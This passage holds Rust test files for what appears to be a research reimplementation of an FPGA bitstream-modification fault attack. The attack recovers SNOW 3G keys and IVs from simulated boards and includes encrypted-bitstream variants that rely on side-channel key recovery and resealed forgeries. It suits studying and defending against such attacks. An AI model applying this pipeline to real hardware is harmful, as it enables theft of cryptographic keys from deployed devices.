    assert_eq!(report.recovered.key.to_string(), "2BD6459F82C5B300952C49104881FF48");

    // Table III: the key-independent keystream matches the paper
    // exactly.
    assert_eq!(report.key_independent_keystream, PAPER_TABLE_III);

    // Table V: the reversed LFSR state matches the paper exactly.
    assert_eq!(report.recovered.initial_state, PAPER_TABLE_V);

    // Structure: 32 verified keystream-path LUTs covering every bit,
    // and 32 feedback-path LUTs.
    assert_eq!(report.z_luts.len(), 32);
    let mut bits: Vec<u8> = report.z_luts.iter().map(|z| z.bit).collect();
    bits.sort_unstable();
    assert_eq!(bits, (0..32).collect::<Vec<u8>>());
    assert_eq!(report.feedback_luts.len(), 32);
    assert!(report.z_luts.iter().all(|z| z.pair.is_some()));
}

#[test]
fn attack_recovers_random_key() {
    // The attack must work for any key/IV, not just the test vector.
    let key = Key([0xDEADBEEF, 0x01234567, 0x89ABCDEF, 0x0F1E2D3C]);
    let iv = Iv([0xCAFEBABE, 0x31415926, 0x27182818, 0x16180339]);
    let board = build_board(key, iv);
    let report =
        Attack::new(&board, board.extract_bitstream()).expect("prepares").run().expect("runs");
    assert_eq!(report.recovered.key, key);
    assert_eq!(report.recovered.iv, iv);
    // Table III is key-independent: same value as for the test key.
    assert_eq!(report.key_independent_keystream, PAPER_TABLE_III);
}

#[test]
fn attack_is_oblivious_to_placement() {
    // A different placement seed moves every LUT; the attack must
    // still succeed because it searches rather than assumes offsets.
    let key = Key([0x00010203, 0x04050607, 0x08090A0B, 0x0C0D0E0F]);
    let iv = Iv([1, 2, 3, 4]);
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(key, iv),
        &ImplementOptions { seed: 0xA5A5_5A5A, ..ImplementOptions::default() },
    )
    .expect("board builds");
    let report =
        Attack::new(&board, board.extract_bitstream()).expect("prepares").run().expect("runs");
    assert_eq!(report.recovered.key, key);
}

#[test]
fn candidate_counts_shape_matches_paper() {
    // The Table II analog: f2 dominates the keystream path with ≥ 32
    // hits (the paper found 81 incl. false positives); the feedback
    // path splits across the byte-shift-induced classes; the unused
    // paper rows stay near zero.
    let board = build_board(TEST_SET_1_KEY, TEST_SET_1_IV);
    let report =
        Attack::new(&board, board.extract_bitstream()).expect("prepares").run().expect("runs");
    let count = |name: &str| {
        report.candidate_counts.iter().find(|(n, _)| *n == name).map_or(0, |(_, c)| *c)
    };
    assert!(count("f2") >= 32, "f2 hits: {}", count("f2"));
    assert!(count("m0") + count("m0b") >= 16);
    assert!(count("g4") >= 14);
    // Effort bookkeeping.
    assert!(report.oracle_loads > 50, "the attack reconfigures the device many times");
    assert!(report.beta_edits > 0, "β edits were applied");
}

#[test]
fn bifi_baseline_fails_where_targeted_attack_succeeds() {
    // The untargeted BiFI baseline (paper reference [23]) mutates one
    // LUT at a time; SNOW 3G requires a coordinated 64-LUT fault, so
    // no single mutation yields a recoverable keystream.
    use bitmod::bifi::{self, BifiConfig};
    let board = build_board(TEST_SET_1_KEY, TEST_SET_1_IV);
    let golden = board.extract_bitstream();
    let config = BifiConfig { max_trials: Some(400), ..BifiConfig::default() };
    let report = bifi::run(&board, &golden, &config).expect("campaign runs");
    assert_eq!(report.trials, 400);
    assert!(report.keystream_changed > 0, "mutations do disturb the device");
    assert!(
        report.recovered_keys.is_empty(),
        "single-LUT faults must not break SNOW 3G: {:?}",
        report.recovered_keys
    );
    assert_eq!(report.rejected, 0, "CRC is repaired per trial");
}

#[test]
fn attack_works_on_the_d101_device_family() {
    // The paper's own tool ran with d = 101 bytes. Implement the
    // victim on the quarter-frame family (sub-vectors packed in the
    // four 101-byte quarters of one frame) and attack with the
    // matching stride parameter.
    use fpga_sim::InitLayout;
    let key = Key([0xAABBCCDD, 0x11223344, 0x55667788, 0x99AA77EE]);
    let iv = Iv([0x01020304, 0x05060708, 0x090A0B0C, 0x0D0E0F10]);
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(key, iv),
        &ImplementOptions { layout: InitLayout::QuarterFrame, ..ImplementOptions::default() },
    )
    .expect("board builds");
    // Sanity: the family really uses the paper's stride.
    assert_eq!(board.fpga().geometry().stride(), 101);
    // The stride is a session parameter now: the facade validates it
    // and threads it through to the forge.
    let spec = bitmod::fleet::SessionSpec::builder().stride(101).build().expect("valid spec");
    let io = bitmod::fleet::SessionIo {
        journal: None,
        resume: bitmod::fleet::ResumePolicy::Never,
        telemetry: bitmod::Telemetry::off(),
        cancel: bitmod::campaign::CancelToken::new(),
        expected_key: Some(key),
    };
    let session = spec.run_harnessed(&board, board.extract_bitstream(), &io).expect("runs");
    let report = session.attack.expect("recovered sessions carry a report");
    assert_eq!(report.recovered.key, key);
    assert_eq!(report.recovered.iv, iv);
    assert_eq!(report.key_independent_keystream, PAPER_TABLE_III);
}

#[test]
fn attack_robust_across_keys_and_placements() {
    // Statistical robustness: different secrets move the γ constants
    // (changing the m0/m0b and load-mux populations) and different
    // seeds move every LUT; the pipeline must absorb all of it.
    let cases = [
        (Key([0, 0, 0, 0]), Iv([0, 0, 0, 0]), 0xB00Fu64),
        (Key([u32::MAX; 4]), Iv([u32::MAX; 4]), 0xD00Du64),
        (Key([0x80000000, 1, 0x7FFFFFFF, 0xA5A5A5A5]), Iv([2, 4, 8, 16]), 42u64),
    ];
    for (key, iv, seed) in cases {
        let board = Snow3gBoard::build(
            Snow3gCircuitConfig::unprotected(key, iv),
            &ImplementOptions { seed, ..ImplementOptions::default() },
        )
        .expect("board builds");
        let report = Attack::new(&board, board.extract_bitstream())
            .expect("prepares")
            .run()
            .unwrap_or_else(|e| panic!("attack failed for key {key:?} seed {seed}: {e}"));
        assert_eq!(report.recovered.key, key, "seed {seed}");
        assert_eq!(report.recovered.iv, iv, "seed {seed}");
    }
}
