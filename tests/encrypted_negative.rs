//! Negative paths of the encrypted attack: a wrong `K_A` guess is a
//! typed device rejection, an insufficient side-channel trace budget
//! is a structured (and resumable) exhaustion, and mangled containers
//! surface as typed `OpenSecureError`s — never panics, never silent
//! acceptance.

use bitmod::encrypted::{demo_sca, demo_seal, open_with_sca};
use bitmod::fleet::{SessionOutcome, SessionSpec};
use bitmod::resilient::ResilienceError;
use bitmod::{AttackError, SCA_TRACES_REQUIRED};
use bitstream::{OpenSecureError, PatchOracle};
use fpga_sim::{ImplementOptions, SealedBoard, SealedLoadError, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

const K_ENC: [u8; 32] = *b"the on-chip key under test......";
const K_AUTH: [u8; 32] = *b"the vendor authentication key...";
const IV: [u8; 16] = *b"sixteen iv bytes";

fn sealed_board() -> SealedBoard {
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds");
    SealedBoard::new(board, K_ENC)
}

#[test]
fn a_wrong_mac_key_guess_is_rejected_by_the_board() {
    let board = sealed_board();
    let golden_sealed = board.extract_sealed(&K_AUTH, IV);

    // The attacker has K_E (side channel) but *guesses* K_A instead
    // of reading it from the opened container.
    let patcher = PatchOracle::new(&golden_sealed, &K_ENC)
        .expect("container opens under K_E")
        .with_mac_key([0xEE; 32]);
    let mut variant = patcher.golden().clone();
    let range = variant.fdri_data_range().expect("payload");
    variant.as_mut_bytes()[range.start + 256] ^= 0x20;
    variant.recompute_crc();
    let forged = patcher.patch_bitstream(&variant).expect("seals under the guessed key");

    let err = board.load_sealed(&forged, 4).expect_err("the board must refuse the forgery");
    assert!(
        matches!(err, SealedLoadError::Container(OpenSecureError::MacMismatch)),
        "typed HMAC rejection, got: {err}"
    );

    // Reading K_A from the container (the Fig. 1 flaw) fixes it.
    let honest = PatchOracle::new(&golden_sealed, &K_ENC).expect("container opens");
    let resealed = honest.patch_bitstream(&variant).expect("seals under the embedded key");
    let words = board.load_sealed(&resealed, 4).expect("the board accepts the honest reseal");
    assert_eq!(words.len(), 4);
}

#[test]
fn garbled_and_truncated_containers_fail_typed() {
    let board = sealed_board();
    let mut sealed = board.extract_sealed(&K_AUTH, IV);

    // Bit flip deep in the body: MAC (or padding) must catch it.
    let mid = sealed.ciphertext.len() / 2;
    sealed.ciphertext[mid] ^= 0x01;
    let err = board.load_sealed(&sealed, 1).expect_err("tampered ciphertext refused");
    assert!(matches!(err, SealedLoadError::Container(_)), "typed refusal, got: {err}");

    // Truncation to a non-block length is a typed CBC error.
    let mut short = board.extract_sealed(&K_AUTH, IV);
    short.ciphertext.truncate(short.ciphertext.len() - 3);
    let err = board.load_sealed(&short, 1).expect_err("ragged container refused");
    assert!(
        matches!(err, SealedLoadError::Container(OpenSecureError::Decrypt(_))),
        "typed CBC-length refusal, got: {err}"
    );

    // Empty container.
    let mut empty = board.extract_sealed(&K_AUTH, IV);
    empty.ciphertext.clear();
    assert!(board.load_sealed(&empty, 1).is_err(), "empty container refused");
}

#[test]
fn an_insufficient_trace_budget_is_a_structured_exhaustion() {
    let board = sealed_board();
    let golden = board.board().extract_bitstream();
    let sealed = demo_seal(&golden);

    let err = open_with_sca(&sealed, &demo_sca(), SCA_TRACES_REQUIRED - 1)
        .expect_err("too few traces must not yield K_E");
    match err {
        AttackError::Exhausted { checkpoint, source } => {
            assert!(
                matches!(
                    source,
                    ResilienceError::ScaTracesExhausted { collected, needed }
                        if collected == SCA_TRACES_REQUIRED - 1 && needed == SCA_TRACES_REQUIRED
                ),
                "typed trace accounting, got: {source}"
            );
            // Nothing was decrypted, so the checkpoint is empty: a
            // rerun starts from scratch, not from a half-open state.
            assert_eq!(checkpoint.oracle_attempts, 0);
        }
        other => panic!("expected a structured exhaustion, got: {other}"),
    }

    // Raising the budget to the requirement opens the container.
    let patcher = open_with_sca(&sealed, &demo_sca(), SCA_TRACES_REQUIRED)
        .expect("enough traces recover K_E");
    assert_eq!(patcher.golden(), &golden);
}

#[test]
fn a_session_with_too_few_traces_exhausts_and_resumes_on_a_raised_budget() {
    let spec =
        SessionSpec::builder().encrypted(true).sca_traces(1_000).build().expect("valid spec");
    let report = spec.run_local().expect("the refusal is an outcome, not an error");
    let SessionOutcome::Exhausted { summary, .. } = &report.outcome else {
        panic!("1k traces must exhaust, got {:?}", report.outcome);
    };
    assert!(summary.contains("trace budget"), "summary names the cause: {summary}");
    assert!(report.attack.is_none(), "no key was recovered");
    assert!(report.checkpoint.is_some(), "the refusal carries the (empty) checkpoint");

    // The raised budget is the whole fix: same spec otherwise.
    let spec = SessionSpec::builder()
        .encrypted(true)
        .sca_traces(SCA_TRACES_REQUIRED)
        .build()
        .expect("valid spec");
    let report = spec.run_local().expect("session runs");
    let SessionOutcome::Recovered(_) = &report.outcome else {
        panic!("raised trace budget must recover, got {:?}", report.outcome);
    };
    assert_eq!(report.attack.expect("attack report").recovered.key, TEST_SET_1_KEY);
}
