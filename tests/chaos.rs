//! Chaos tests: the adaptive fleet under compound failure — burst
//! (Gilbert–Elliott) keystream noise, a board that dies permanently
//! mid-session, and a SIGKILL'd daemon — must still recover the
//! Test Set 1 key with effort totals bit-identical to an
//! uninterrupted run of the same seed-pinned spec.
//!
//! The determinism claim composes three layers pinned separately
//! elsewhere: ambient noise is a pure function of (seed, query index,
//! lane) so any board replays it; `dies_at` pathology is board-local
//! and excluded from the ambient profile, so a migrated session sees
//! none of it on the healthy peer; and the write-ahead journal
//! restores the resilience layer (stats, clock, adaptive policy)
//! exactly. Here the three are exercised together.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use bitmod::fleet::{
    health, BoardHealth, Fleet, FleetConfig, SessionOutcome, SessionSpec, SessionState,
};
use bitmod::telemetry::names;

fn temp_root(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("bitmod-chaos-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// The chaos spec: ambient burst noise on top of the flaky floor,
/// with the adaptive policy riding the fault rate.
fn chaos_spec() -> SessionSpec {
    SessionSpec::builder()
        .noisy(true)
        .seed(11)
        .burst(0.02, 0.30, 0.08)
        .adaptive(true)
        .build()
        .expect("valid chaos spec")
}

#[test]
fn burst_noise_plus_board_death_migrates_and_recovers_to_serial_totals() {
    let spec = chaos_spec();

    // Ground truth: one uninterrupted local run of the same spec.
    let baseline = spec.run_local().expect("serial baseline completes");
    let SessionOutcome::Recovered(serial_stats) = baseline.outcome else {
        panic!("serial baseline did not recover: {:?}", baseline.outcome);
    };

    // Doom *both* boards at 60% of the baseline's physical loads:
    // whichever worker picks the session up dies mid-run. The fuse
    // counts board-local wear (not the restored session position), so
    // the peer resumes with a fresh fuse and the migrated remainder
    // (~40% of the loads) burns well under it.
    let dies_at = (serial_stats.physical * 3 / 5).max(10);
    let root = temp_root("death");
    let fleet = Fleet::start(
        FleetConfig::new(&root).workers(2).board_dies_at(0, dies_at).board_dies_at(1, dies_at),
    )
    .expect("fleet starts");
    let handle = fleet.submit(spec).expect("submits");

    let status = handle.wait_timeout(Duration::from_secs(600)).expect("session terminates");
    assert_eq!(
        status.state,
        SessionState::Recovered,
        "migrated session recovers ({})",
        status.note
    );
    assert!(status.steals >= 1, "the session changed hands");
    assert_eq!(
        status.stats, serial_stats,
        "migrated-and-resumed totals must be identical to the uninterrupted serial run"
    );

    let counters = fleet.counters();
    assert_eq!(counters.counter(names::FLEET_BOARDS_QUARANTINED), 1, "one board died");
    assert_eq!(counters.counter(names::FLEET_SESSIONS_MIGRATED), 1, "one migration");

    // Exactly one board is dead, and it is durably quarantined.
    let report = fleet.health();
    let dead: Vec<_> = report.iter().filter(|w| w.health() == BoardHealth::Dead).collect();
    assert_eq!(dead.len(), 1, "exactly one dead board: {report:?}");
    let victim = dead[0].worker;
    assert!(dead[0].score.loads >= dies_at, "the fuse burned through real loads");
    let marker = health::marker_path(fleet.root(), victim);
    assert!(marker.exists(), "quarantine marker persisted at {}", marker.display());
    let survivor = report.iter().find(|w| w.worker != victim).expect("two workers");
    assert_eq!(survivor.health(), BoardHealth::Healthy, "the peer stayed healthy");
    assert!(survivor.score.sessions >= 1, "the peer ran the migrated session");
    fleet.shutdown();

    // Reboot on the same root: the boot re-probe finds the marker,
    // probes a working board behind the slot (the simulated fleet
    // rebuilds it — "replaced hardware"), clears the quarantine and
    // counts the re-probe.
    let fleet = Fleet::start(FleetConfig::new(&root).workers(2)).expect("fleet reboots");
    assert!(!marker.exists(), "re-probe cleared the quarantine marker");
    assert_eq!(fleet.counters().counter(names::FLEET_BOARDS_REPROBED), 1);
    assert!(
        fleet.health().iter().all(|w| w.health() == BoardHealth::Healthy),
        "all boards healthy after the re-probe: {:?}",
        fleet.health()
    );
    fleet.shutdown();
    let _ = std::fs::remove_dir_all(&root);
}

/// SIGKILLs a `bitmod serve` daemon mid-way through an adaptive
/// burst-noise session; a fresh daemon on the same root must resume
/// it from the journal to key recovery with serial-identical totals,
/// and the wire protocol must expose the board-health report.
#[cfg(unix)]
#[test]
fn a_sigkilled_daemon_resumes_an_adaptive_noisy_session_to_serial_totals() {
    use std::process::{Child, Command, Stdio};

    use bitmod::fleet::{wire, Endpoint, FleetClient, SessionLayout};

    let spec = chaos_spec();
    let baseline = spec.run_local().expect("serial baseline completes");
    let SessionOutcome::Recovered(serial_stats) = baseline.outcome else {
        panic!("serial baseline did not recover: {:?}", baseline.outcome);
    };

    let root = temp_root("sigkill");
    std::fs::create_dir_all(&root).expect("test root");
    let fleet_root = root.join("fleet");
    let sock = |n: u32| root.join(format!("serve-{n}.sock"));

    let serve = |sock_path: &std::path::Path| -> Child {
        Command::new(env!("CARGO_BIN_EXE_bitmod"))
            .args([
                "serve",
                "--addr",
                &format!("unix:{}", sock_path.display()),
                "--root",
                &fleet_root.display().to_string(),
                "--workers",
                "1",
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("bitmod serve spawns")
    };
    let connect = |sock_path: &std::path::Path| -> FleetClient {
        let endpoint = Endpoint::Unix(sock_path.to_path_buf());
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            if let Ok(mut client) = FleetClient::connect(&endpoint) {
                if client.ping().is_ok() {
                    return client;
                }
            }
            assert!(Instant::now() < deadline, "server never came up on {}", sock_path.display());
            std::thread::sleep(Duration::from_millis(20));
        }
    };

    let mut first = serve(&sock(1));
    let mut client = connect(&sock(1));
    let id = client.submit(&spec).expect("submits the chaos spec over the wire");

    // The health verb answers before any session ran: one healthy
    // board, zero gap.
    let health_line = client.health().expect("health");
    assert!(health_line.contains("\"boards\":["), "health rows exposed: {health_line}");
    assert!(health_line.contains("\"health\":\"healthy\""), "fresh board healthy: {health_line}");

    // Wait for the first write-ahead checkpoint, then SIGKILL the
    // whole daemon — no drop handlers, no cleanup.
    let journal = SessionLayout::for_session(&fleet_root, &id).journal();
    let deadline = Instant::now() + Duration::from_secs(600);
    while !journal.exists() {
        assert!(Instant::now() < deadline, "session never journalled");
        let status = client.status(&id).expect("status");
        assert!(
            !status.contains("\"state\":\"recovered\""),
            "session finished before the SIGKILL could land"
        );
        std::thread::sleep(Duration::from_millis(2));
    }
    first.kill().expect("SIGKILL delivered");
    let _ = first.wait();

    let mut second = serve(&sock(2));
    let mut client = connect(&sock(2));
    let deadline = Instant::now() + Duration::from_secs(600);
    let status = loop {
        let status = client.status(&id).expect("status after restart");
        if status.contains("\"state\":\"recovered\"") {
            break status;
        }
        for terminal in ["failed", "cancelled", "exhausted"] {
            assert!(
                !status.contains(&format!("\"state\":\"{terminal}\"")),
                "resumed session must recover, ended: {status}"
            );
        }
        assert!(Instant::now() < deadline, "resumed session never finished");
        std::thread::sleep(Duration::from_millis(50));
    };

    // Seed-pinned determinism across the SIGKILL: the resumed run's
    // effort totals equal the uninterrupted serial baseline's.
    assert_eq!(wire::number_field(&status, "physical"), Some(serial_stats.physical));
    assert_eq!(wire::number_field(&status, "logical"), Some(serial_stats.logical));
    assert_eq!(wire::number_field(&status, "retries"), Some(serial_stats.retries));

    // After a noisy session, the health report carries its loads and
    // the fault gap counter is present in the counter dump.
    let health_line = client.health().expect("health after the run");
    assert!(
        wire::number_field(&health_line, "loads").is_some_and(|loads| loads > 0),
        "board loads accounted: {health_line}"
    );
    let counters = client.counters().expect("counters");
    assert!(
        counters.contains(names::BOARD_FAULT_GAP),
        "observed-vs-injected gap surfaced: {counters}"
    );

    client.shutdown().expect("clean shutdown");
    let _ = second.wait();
    let _ = std::fs::remove_dir_all(&root);
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).expect("copy target");
    for entry in std::fs::read_dir(from).expect("readable source") {
        let entry = entry.expect("dir entry");
        let target = to.join(entry.file_name());
        if entry.file_type().expect("file type").is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).expect("file copies");
        }
    }
}

/// Parks one mid-flight noisy session via a graceful drain and
/// returns (root, session id, journal bytes, serial-baseline stats):
/// the shared fixture for the torn-write recovery sweeps below.
fn parked_session(tag: &str) -> (PathBuf, String, Vec<u8>, bitmod::campaign::CellStats) {
    let spec = SessionSpec::builder().noisy(true).seed(7).build().expect("valid spec");
    let baseline = spec.run_local().expect("serial baseline completes");
    let SessionOutcome::Recovered(serial_stats) = baseline.outcome else {
        panic!("serial baseline did not recover: {:?}", baseline.outcome);
    };

    let root = temp_root(tag);
    let fleet = Fleet::start(FleetConfig::new(&root).workers(1)).expect("fleet starts");
    let handle = fleet.submit(spec).expect("submits");
    let journal = handle.layout().journal();
    let deadline = Instant::now() + Duration::from_secs(600);
    while !journal.exists() {
        assert!(Instant::now() < deadline, "session never journalled");
        assert!(!handle.state().is_terminal(), "session outran the drain");
        std::thread::sleep(Duration::from_millis(2));
    }
    let metrics = fleet.drain();
    assert!(metrics.counter(names::FLEET_DRAIN_PARKED) >= 1, "drain parked the session");
    let bytes = std::fs::read(&journal).expect("parked journal readable");
    let id = handle.id().to_string();
    drop((handle, fleet));
    (root, id, bytes, serial_stats)
}

/// Journal decode totality: a checkpoint truncated at *every* byte
/// boundary — every possible torn tail — comes back as a typed
/// corruption error; only the complete frame decodes. No panic, no
/// misdecode, at any cut.
#[test]
fn a_journal_truncated_at_every_byte_boundary_decodes_to_typed_errors() {
    use bitmod::journal;

    let (root, _, bytes, _) = parked_session("torn-sweep");
    assert!(journal::decode_frame(&bytes).is_ok(), "the untorn frame decodes");
    for cut in 0..bytes.len() {
        match journal::decode_frame(&bytes[..cut]) {
            Ok(doc) => panic!("a {cut}-byte torn prefix decoded to {doc:?}"),
            Err(e) => {
                assert!(e.is_corruption(), "typed corruption at cut {cut}, got {e:?}");
            }
        }
    }
    let _ = std::fs::remove_dir_all(&root);
}

/// Torn-write recovery, end to end: representative crash states of
/// the journal write path (mid-frame truncations of the journal
/// itself, plus the atomic-rename states a crash mid-`save` leaves
/// behind) are each planted under a fresh boot, and every boot must
/// finish the session to key recovery with effort totals
/// bit-identical to the uninterrupted serial run — a torn checkpoint
/// is discarded and restarted, an intact one is resumed, and neither
/// path changes a single count.
#[test]
fn every_torn_write_crash_state_boots_to_serial_identical_totals() {
    use bitmod::fleet::chaos::{simulate_torn_write, truncate_at, TornWritePoint};
    use bitmod::fleet::SessionLayout;

    let (root, id, bytes, serial_stats) = parked_session("torn-boot");

    // (tag, journal truncation, tmp-file state, torn checkpoint?)
    let states: &[(&str, Option<u64>, Option<TornWritePoint>, bool)] = &[
        ("mid-frame", Some(bytes.len() as u64 / 2), None, true),
        ("one-short", Some(bytes.len() as u64 - 1), None, true),
        ("header-only", Some(10), None, true),
        ("empty", Some(0), None, true),
        // A crash mid-save: the tmp file is torn or complete but the
        // rename never happened — the *previous* checkpoint is intact
        // and must be resumed, tmp debris notwithstanding.
        ("tmp-partial", None, Some(TornWritePoint::TempPartial(7)), false),
        ("tmp-complete", None, Some(TornWritePoint::TempComplete), false),
    ];

    for (tag, cut, tmp, torn) in states {
        let boot_root = temp_root(&format!("torn-boot-{tag}"));
        copy_dir(&root, &boot_root);
        let journal = SessionLayout::for_session(&boot_root, &id).journal();
        if let Some(cut) = cut {
            truncate_at(&journal, *cut).expect("truncates the checkpoint");
        }
        if let Some(point) = tmp {
            simulate_torn_write(&journal, &bytes, *point).expect("plants tmp debris");
        }

        let fleet = Fleet::start(FleetConfig::new(&boot_root).workers(1)).expect("boots");
        let handle = fleet.handle(&id).expect("boot rescan readmits the session");
        let status = handle.wait_timeout(Duration::from_secs(600)).expect("terminates");
        assert_eq!(
            status.state,
            SessionState::Recovered,
            "crash state '{tag}' recovers ({})",
            status.note
        );
        assert_eq!(
            status.stats, serial_stats,
            "crash state '{tag}' reaches serial-identical totals"
        );
        let discarded = fleet.counters().counter(names::JOURNAL_TORN_DISCARDED);
        if *torn {
            assert!(discarded >= 1, "crash state '{tag}' discarded the torn checkpoint");
        } else {
            assert_eq!(discarded, 0, "crash state '{tag}' must resume, not discard");
            assert!(
                fleet.counters().counter(names::FLEET_SESSIONS_RESUMED) >= 1,
                "crash state '{tag}' resumed from the intact checkpoint"
            );
        }
        fleet.shutdown();
        let _ = std::fs::remove_dir_all(&boot_root);
    }
    let _ = std::fs::remove_dir_all(&root);
}
