//! Negative paths of the attack pipeline: wrong devices, broken
//! oracles, garbage bitstreams.

use bitmod::{Attack, AttackError, KeystreamOracle, OracleError};
use bitstream::{Bitstream, BitstreamBuilder, FrameData};
use fpga_sim::{ImplementOptions, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

#[test]
fn garbage_bitstream_has_no_payload() {
    struct Never;
    impl KeystreamOracle for Never {
        fn keystream(&self, _: &Bitstream, _: usize) -> Result<Vec<u32>, OracleError> {
            Err(OracleError::Rejected("unused".into()))
        }
    }
    let err = Attack::new(&Never, Bitstream::from_bytes(vec![0u8; 256])).unwrap_err();
    assert!(matches!(err, AttackError::NoFdriPayload), "{err}");
}

#[test]
fn dead_oracle_fails_cleanly() {
    struct Dead;
    impl KeystreamOracle for Dead {
        fn keystream(&self, _: &Bitstream, _: usize) -> Result<Vec<u32>, OracleError> {
            Err(OracleError::Rejected("device unreachable".into()))
        }
    }
    // A structurally valid (but empty) bitstream so that payload
    // extraction succeeds and the first oracle call is reached.
    let bs = BitstreamBuilder::new(FrameData::new(4)).build();
    let err = Attack::new(&Dead, bs).unwrap_err();
    assert!(matches!(err, AttackError::Oracle(_)), "{err}");
    assert!(err.to_string().contains("device unreachable"));
}

#[test]
fn empty_device_yields_no_z_path() {
    // An oracle that accepts everything but produces a constant
    // keystream: no candidate can be verified.
    struct Constant;
    impl KeystreamOracle for Constant {
        fn keystream(&self, _: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError> {
            Ok(vec![0xDEADBEEF; words])
        }
    }
    let bs = BitstreamBuilder::new(FrameData::new(8)).build();
    let err = Attack::new(&Constant, bs).unwrap().run().unwrap_err();
    assert!(matches!(err, AttackError::ZPathIncomplete { bits_found: 0 }), "{err}");
}

#[test]
fn mismatched_golden_bitstream_is_rejected_by_device() {
    // Attacking board A with board B's (differently sized) bitstream:
    // the device refuses configuration on the very first load.
    let board_a = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions { columns: Some(4), ..ImplementOptions::default() },
    )
    .expect("board a");
    let board_b = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions { columns: Some(6), ..ImplementOptions::default() },
    )
    .expect("board b");
    let err = Attack::new(&board_a, board_b.extract_bitstream()).unwrap_err();
    assert!(matches!(err, AttackError::Oracle(_)), "{err}");
}

#[test]
fn truncated_golden_bitstream() {
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board");
    let golden = board.extract_bitstream();
    let cut = Bitstream::from_bytes(golden.as_bytes()[..golden.len() / 2].to_vec());
    // Either payload extraction fails or the device rejects; both are
    // clean errors, never a panic.
    match Attack::new(&board, cut) {
        Err(AttackError::NoFdriPayload | AttackError::Oracle(_)) => {}
        Err(other) => panic!("unexpected error kind: {other}"),
        Ok(_) => panic!("truncated bitstream must not prepare"),
    }
}
