//! Kill-and-resume: a journalled noisy attack cut at an arbitrary
//! point and resumed in a "new process" (fresh board object, state
//! restored from the journal) must recover the key AND produce
//! physical-attempt totals bit-identical to an uninterrupted run —
//! the journal replays the exact query trace, it does not merely
//! approximate it.

use bitmod::campaign::CancelToken;
use bitmod::fleet::{ResumePolicy, SessionIo, SessionOutcome, SessionSpec};
use bitmod::journal::{AttackJournal, JournalError};
use bitmod::{Attack, AttackError, Telemetry};
use fpga_sim::{ImplementOptions, Snow3gBoard, UnreliableBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};
use std::path::{Path, PathBuf};

/// The fault seed every deterministic assertion in this file pins.
const SEED: u64 = 7;

/// Ample ceiling for a full run at seed 7 (needs ≈3,100 attempts).
const BUDGET: u64 = 8_000;

/// The noisy journalled session every test here starts from.
fn spec(budget: u64, journal: Option<&Path>, resume: bool) -> SessionSpec {
    let mut b = SessionSpec::builder().noisy(true).seed(SEED).budget(budget).resume(resume);
    if let Some(path) = journal {
        b = b.journal(path);
    }
    b.build().expect("valid spec")
}

fn flaky_board(spec: &SessionSpec) -> UnreliableBoard {
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds");
    UnreliableBoard::new(board, spec.fault_profile())
}

fn journal_path(tag: &str) -> PathBuf {
    std::env::temp_dir().join(format!("bitmod-resume-{tag}-{}.journal", std::process::id()))
}

struct RunTotals {
    physical: usize,
    logical: u64,
    retries: u64,
    backoff_ms: u64,
}

fn totals_of(report: &bitmod::AttackReport) -> RunTotals {
    RunTotals {
        physical: report.oracle_loads,
        logical: report.resilience.queries,
        retries: report.resilience.transient_errors,
        backoff_ms: report.resilience.backoff_ms,
    }
}

/// The ground truth: the uninterrupted run's key and accounting.
fn uninterrupted() -> RunTotals {
    let session = spec(BUDGET, None, false).run_local().expect("uninterrupted run completes");
    let report = session.attack.expect("uninterrupted run recovers");
    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    totals_of(&report)
}

/// Cuts a journalled run at `budget` physical attempts ("the kill"),
/// then resumes it from the journal in a fresh session ("the new
/// process") with the full budget.
fn kill_and_resume(tag: &str, budget: u64) -> RunTotals {
    let path = journal_path(tag);
    let _ = std::fs::remove_file(&path);

    let session = spec(budget, Some(&path), false).run_local().expect("cut run completes");
    assert!(
        matches!(session.outcome, SessionOutcome::Exhausted { .. }),
        "structured cut, got: {:?}",
        session.outcome
    );
    assert!(path.exists(), "the journal survives the kill");

    let session = spec(BUDGET, Some(&path), true).run_local().expect("resumed run completes");
    let report = session.attack.expect("resumed run recovers");

    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    assert_eq!(report.recovered.iv, TEST_SET_1_IV);
    assert!(!path.exists(), "the journal removes itself on success");
    totals_of(&report)
}

#[test]
fn a_killed_run_resumes_to_the_bit_identical_trace() {
    let truth = uninterrupted();
    // Cuts land in different phases: 600 stops in the key-independent
    // configuration, 1500 and 2500 later still — the trace must be
    // identical no matter where the kill fell.
    for (tag, budget) in [("early", 600), ("mid", 1_500), ("late", 2_500)] {
        let resumed = kill_and_resume(tag, budget);
        assert_eq!(resumed.physical, truth.physical, "physical attempts (cut at {budget})");
        assert_eq!(resumed.logical, truth.logical, "logical queries (cut at {budget})");
